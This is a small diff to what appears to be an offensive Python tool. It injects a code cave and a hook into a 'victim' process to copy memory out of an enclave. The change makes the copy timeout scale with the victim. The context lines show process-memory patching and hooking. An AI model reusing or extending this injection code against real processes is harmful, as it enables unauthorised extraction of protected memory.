@@ -78,6 +78,7 @@ class Copier:
     memory: Memory
     words: int
     room: int
+    seconds: float
     number: int = 0
 
     def copy(self, at: int, size: int) -> bytes:
@@ -87,7 +88,7 @@ class Copier:
             TimeoutError: It does not come by.
         """
         self.order(at, size)
-        until = time.monotonic() + _SECONDS
+        until = time.monotonic() + self.seconds
         while self.memory.read(self.room - 8, 8) != struct.pack("<Q", self.number):
             if time.monotonic() > until:
                 raise TimeoutError("the enclave does not come by")
@@ -125,7 +126,7 @@ def owned(victim: Victim, pid: int, memory: Memory) -> Iterator[Copier]:
     kept, kept_hook = memory.read(cave, len(whole)), memory.read(hook, 5)
     # The far end of the stack is nobody's.
     room = victim.area(pid, "[stack]").start + 64
-    copier = Copier(memory, cave + words, room)
+    copier = Copier(memory, cave + words, room, _SECONDS * victim.slow)
     memory.write(cave, whole)
     try:
         copier.order(hook, 8)
